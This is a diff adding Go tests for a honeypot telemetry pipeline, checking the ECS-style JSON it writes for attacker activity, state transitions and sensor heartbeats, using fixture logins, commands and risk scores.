+	for _, c := range []struct {
+		service, principal, kind, secret string
+		digest                           byte
+		tried, admitted                  int64
+	}{{"ssh", "root", "plaintext", "toor", 0xd1, 2009, 2010}, {"telnet", "admin", "plaintext", "1234", 0xd2, 2011, 0}, {"", "", "md5", "hash", 0xd3, 2009, 0}} {
+		e := event.Evidence{A: c.principal, B: c.kind, Digest: [32]byte(slices.Repeat([]byte{c.digest}, 32))}
+		key := state.CredentialKey(new(event.Arena), c.service, &e)
+		hour.Tried.Add(law.Entry{Key: key, Count: c.tried, Payload: c.secret}, large)
+		if c.admitted > 0 {
+			hour.Admitted.Add(law.Entry{Key: key, Count: c.admitted}, large)
+		}
+	}
+	hour.Commands.Add(law.Item{Time: moment(3700), A: "ssh", B: "delta", C: "id"}, large)
+	hour.Summary = law.Latest{Time: 1001, Value: string(r.AppendSummary(nil, head, numbered()))}
+	distinctFigures(t, "activity", hour)
+	ofHour := map[string]string{
+		"@timestamp": clock(3600), "event.kind": `"metric"`, "event.module": `"dossier"`, "event.dataset": `"dossier.activity"`,
+		"source.ip": `"185.220.101.4"`, "source.geo.country_iso_code": `"CL"`, "source.geo.location": location, "source.as.number": "64499",
+		"source.as.organization.name": `"Example SA"`, "uuid": someoneUUID, "observer.name": `["sensor-a","sensor-b"]`,
+		"activity.events": "2001", "activity.interactions": "2004", "activity.scans": "2003", "activity.commands": "2005",
+		"activity.login_attempts": "2006", "activity.login_successes": "2007", "activity.recipients": "2008",
+		"services": `["service-a","service-b"]`, "deckies": `["decky-a","decky-b"]`,
+		"commands": fmt.Sprintf(`[{"timestamp":%s,"service":"ssh","decky":"delta","command":"id"}]`, clock(3700)),
+		"credentials.tried": `[{"service":"telnet","user":"admin","secret_kind":"plaintext","secret":"1234","secret_sha256":"` + strings.Repeat("d2", 32) + `","attempts":2011,"successes":0},` +
+			`{"secret_kind":"md5","secret":"hash","secret_sha256":"` + strings.Repeat("d3", 32) + `","attempts":2009,"successes":0},` +
+			`{"service":"ssh","user":"root","secret_kind":"plaintext","secret":"toor","secret_sha256":"` + strings.Repeat("d1", 32) + `","attempts":2009,"successes":2010}]`,
+		"event_count": "1001", "service_count": "5", "decky_count": "4", "bounty_count": "20", "credential_count": "3", "is_traversal": "true",
+		"risk.score": aScore, "risk.level": `"High"`, "behavior.class": `"slow_scan"`, "country_code": `"CL"`, "asn": "64499",
+		"updated_at": writtenText, "ecs.version": `"9.4.0"`, "schema_version": schemaText, "state": `"c3RhdGU="`,
+	}
+	shows(t, "an hour", Activity, r.AppendActivity(nil, head, moment(3600), hour), ofHour, asserted)
+	hour.Services.Add(law.Entry{Key: "service-c"}, law.Limit{Keys: 2})
+	services := hour.Services.Keys()
+	shows(t, "a network's hour", Activity, r.AppendActivity(nil, network, moment(3600), hour), with(ofHour, map[string]string{
+		"source.ip": "null", "network": `"2a00:1450:4001::/48"`, "uuid": networkUUID, "services": fmt.Sprintf("[%q,%q]", services[0], services[1]),
+		"truncated": `["services"]`,
+	}), asserted)
+
+	for action, c := range map[string]struct{ value, message string }{
+		Observed: {"", "seen for the first time"}, Traversal: {"", "moved to a second decoy"}, LoginSuccess: {"", "logged in for the first time"},
+		HandsOn: {"", "gives commands after a login"}, ClassSeen: {"scanning", "behaves as scanning"}, RiskReached: {"Moderate", "risk reached Moderate"},
+	} {
+		crossed := state.Transition{Action: action, Value: c.value, Time: moment(777)}
+		value := "null"
+		if c.value != "" {
+			value = `"` + c.value + `"`
+		}
+		rows := map[string]string{
+			"@timestamp": clock(777), "event.ingested": writtenText, "event.kind": `"event"`, "event.category": `["intrusion_detection"]`,
+			"event.type": `["info"]`, "event.action": `"` + action + `"`, "event.module": `"dossier"`, "event.dataset": `"dossier.transitions"`,
+			"event.risk_score": aScore, "message": `"185.220.101.4: ` + c.message + `"`, "transition.value": value,
+			"source.ip": `"185.220.101.4"`, "source.geo.country_iso_code": `"CL"`, "source.geo.location": location, "source.as.number": "64499",
+			"source.as.organization.name": `"Example SA"`, "uuid": someoneUUID, "observer.name": `["sensor-a","sensor-b"]`,
+			"first_seen": clock(1), "last_seen": clock(999), "event_count": "1001", "services": `["ftp","http","smtp","ssh","telnet"]`,
+			"service_count": "5", "decky_count": "4", "is_traversal": "true", "traversal_path": `"delta → alpha → charlie → bravo"`,
+			"login_attempts": "1006", "login_successes": "1007", "command_count": "1005", "bounty_count": "20",
+			"behavior.class": `"slow_scan"`, "behavior.tools": `["paramiko","sqlmap"]`, "risk.score": aScore, "risk.level": `"High"`,
+			"spoofable": "false", "threat.technique.id": `["T1105","T1110","T1595.001"]`, "related.ip": `["185.220.101.4"]`,
+			"ecs.version": `"9.4.0"`, "schema_version": schemaText,
+		}
+		shows(t, "transition "+action, Transitions, r.AppendTransition(nil, head, crossed, numbered()), rows, asserted)
+		shows(t, "a network's transition "+action, Transitions, r.AppendTransition(nil, network, crossed, numbered()), with(rows, map[string]string{
+			"source.ip": "null", "network": `"2a00:1450:4001::/48"`, "uuid": networkUUID, "message": `"2a00:1450:4001::/48: ` + c.message + `"`,
+			"related.ip": `["2a00:1450:4001::1","2a00:1450:4001::2"]`,
+		}), asserted)
+	}
+
+	beats := &Heartbeat{
+		Sensor: "sensor-1", Version: "v9", Started: figuresDay.Add(time.Second),
+		RecordsIn: 1, RecordsOut: 2, ChunksIn: 3, ChunksOut: 4, ChunksSkipped: 5, BytesIn: 6, DocumentsWritten: 7, Unattributed: 8,
+		Unparsed: 9, Dropped: 10, Malformed: 11, DeadLetters: 12, Conflicts: 13, Retries: 14, ClockSkew: 15, ExactnessAtRisk: 16,
+		CacheDocuments: 17, CacheBytes: 18,
+		Reasons:         []RefusalCount{{"unparsed", "bad_json", 19}, {"dropped", "own_app", 20}},
+		DroppedPrograms: []ProgramCount{{"cron", 21}, {"systemd", 22}},
+		LastError:       "no route", LastErrorAt: figuresDay.Add(2 * time.Second),
+	}
+	distinctFigures(t, "heartbeat", beats)
+	shows(t, "a heartbeat", Sensors, AppendSensor(nil, written, beats), map[string]string{
+		"@timestamp": writtenText, "sensor": `"sensor-1"`, "version": `"v9"`, "started_at": clock(1), "records_in": "1", "records_out": "2",
+		"chunks_in": "3", "chunks_out": "4", "chunks_skipped": "5", "bytes_in": "6", "documents_written": "7", "unattributed": "8", "unparsed": "9",
+		"dropped": "10", "malformed": "11", "dead_letters": "12", "conflicts": "13", "retries": "14", "clock_skew": "15", "exactness_at_risk": "16",
+		"cache_documents": "17", "cache_bytes": "18",
+		"reasons":          `[{"verdict":"unparsed","reason":"bad_json","count":19},{"verdict":"dropped","reason":"own_app","count":20}]`,
+		"dropped_programs": `[{"program":"cron","count":21},{"program":"systemd","count":22}]`,
+		"last_error":       `"no route"`, "last_error_at": clock(2), "ecs.version": `"9.4.0"`, "schema_version": schemaText,
+	}, asserted)
+
+	// What the ledger's markers show, correlate writes.
+	for _, k := range Kinds() {
+		for _, f := range Fields(k) {
+			if k != Chunks && !asserted[k][f.Name] {
+				t.Errorf("%s: no test says where %s comes from", k, f.Name)
+			}
+		}
+	}
+}
+
+// distinctFigures checks that a state, or a heartbeat, has a value in every
+// exported field, and that no two of its numbers and times are equal: else a
+// test of what stands where would pass by chance. A field that is added must be
+// given a value.
+func distinctFigures(t *testing.T, what string, of any) {
+	t.Helper()
+	v := reflect.ValueOf(of).Elem()
+	seen := map[int64]string{}
+	note := func(name string, n int64) {
+		if other, known := seen[n]; known && n != 0 {
+			t.Errorf("%s: %s and %s are both %d", what, other, name, n)
+		}
+		seen[n] = name
+	}
+	for i := range v.NumField() {
+		f := v.Type().Field(i)
+		if !f.IsExported() {
+			continue
+		}
+		if v.Field(i).IsZero() {
+			t.Errorf("%s: nothing gives %s a value: do so, and say which field shows it", what, f.Name)
+		}
+		switch x := v.Field(i).Interface().(type) {
+		case int64:
+			note(f.Name, x)
+		case event.Time:
+			note(f.Name, int64(x))
+		case [3]int64:
+			for j, n := range x {
+				note(fmt.Sprint(f.Name, j), n)
+			}
+		case law.Bottom:
+			for _, e := range x.Entries() {
+				if e.First > 1 && e.First == e.Last {
+					t.Errorf("%s: %s: %q was seen at one moment only", what, f.Name, e.Key)
+				}
+			}
+		}
+	}
+}
